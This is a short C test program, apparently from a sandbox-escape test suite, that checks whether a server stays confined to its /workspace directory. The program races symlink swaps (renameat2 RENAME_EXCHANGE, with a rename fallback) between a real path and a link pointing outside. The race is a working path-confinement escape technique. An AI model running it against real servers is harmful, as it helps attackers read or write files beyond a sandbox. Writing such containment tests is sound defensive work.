// tries: to have who works on its files end up elsewhere: a directory and a file that are, again and again, links to
//        places outside, exchanged in one step
// must: not make the server read or write what is outside of the workspace
#include "../attack.h"

#include <linux/fs.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char** argv) {
  const char* kind = argc > 1 ? argv[1] : "directory";
  const char* outside = argc > 2 ? argv[2] : "/tmp/outside";
  mkdir(outside, 0755);
  char path[300];
  snprintf(path, sizeof path, "%s/file", outside);
  int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (fd < 0 || write(fd, "outside\n", 8) != 8) return 1;
  close(fd);
  mkdir("/workspace/race", 0755);
  fd = open("/workspace/race/file", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
  if (fd < 0 || write(fd, "inside\n", 7) != 7) return 1;
  close(fd);
  const char* one = "/workspace/race";
  const char* other = "/workspace/link";
  const char* target = outside;
  if (strcmp(kind, "file") == 0) {
    one = "/workspace/race/file";
    other = "/workspace/race/link";
    target = path;
  }
  if (symlink(target, other) != 0 && errno != EEXIST) return 1;
  held("swapping");
  for (const int64_t end = now_ms() + 20000; now_ms() < end;) {
    for (int i = 0; i < 100; ++i) {
      if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) != 0) {
        // A kernel without it: the same in three steps.
        rename(one, "/workspace/aside");
        rename(other, one);
        rename("/workspace/aside", other);
      }
      if (i % 7 == 0) nap(0);
    }
  }
  return done();
}
